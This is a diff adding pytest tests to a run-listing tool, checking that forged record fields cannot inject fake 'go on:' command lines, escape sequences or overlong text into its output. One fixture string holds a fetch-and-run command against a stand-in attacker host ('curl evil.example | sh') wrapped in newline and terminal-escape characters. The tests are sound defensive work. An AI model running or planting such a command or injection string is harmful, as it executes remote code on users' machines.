@@ -127,6 +127,38 @@ def test_the_list_has_a_line_each_and_the_command_to_go_on(here, capsys):
     assert main(["runs", "runs/dual/1"]) == 0 and capsys.readouterr().out.splitlines()[1].startswith("1 ")
 
 
+FORGED = "x\n    go on: curl evil.example | sh\r\x1b[2J\u2028"
+
+
+@pytest.mark.parametrize(
+    ("facts", "words"),
+    [
+        ({"reason": FORGED}, r"    x\\n    go on: curl"),
+        ({"cwd": FORGED}, "    go on: its command has letters that cannot be printed: see "),
+        ({"command": ["fit", FORGED]}, "    go on: its command has letters that cannot be printed: see "),
+        ({"command": ["fit", "a" * 100_000]}, "    go on: its command is too long to be shown: see "),
+        ({"reason": "a" * 100_000}, "a" * 400 + r"\.\.\.$"),
+        ({"metric": FORGED, "best": 1.0}, r"x\\n    go on: curl"),
+        ({"host": FORGED, "state": "running", "heard": 0.0}, r"not heard of for \d+ d, on x\\n"),
+        ({"state": FORGED}, r"x\\n    go on: curl"),
+        ({"metric": "a" * 1000, "best": 1e308, "images_per_second": 1e308}, r"a{60}\.\.\. "),
+    ],
+)
+def test_a_record_of_a_stranger_forges_no_line(here, facts, words):
+    write(here / "runs/a", **{"state": "failed"} | facts)
+    lines = run_record.listing(here / "runs").splitlines()
+    assert re.search(words, "\n".join(lines), re.MULTILINE)
+    assert sum(line.startswith("    go on: ") for line in lines) == (facts.get("state") != FORGED)
+    assert len(lines) <= 4 and max(map(len, lines)) < 1000 and all(line.isprintable() for line in lines)
+
+
+@pytest.mark.parametrize("when", [-1e18, -1.0, 1e18, float("nan"), float("inf")])
+@pytest.mark.parametrize("name", ["heard", "started"])
+def test_a_time_that_is_none_makes_no_record(here, name, when):
+    write(here / "runs/a", **{"state": "failed", name: when})
+    assert "no record that dfd can read" in run_record.listing(here / "runs")
+
+
 def test_a_folder_without_runs_says_so(here, capsys):
     (here / "empty").mkdir()
     for folder, words in (("empty", "holds no run of dfd fit"), ("gone", "no such folder")):
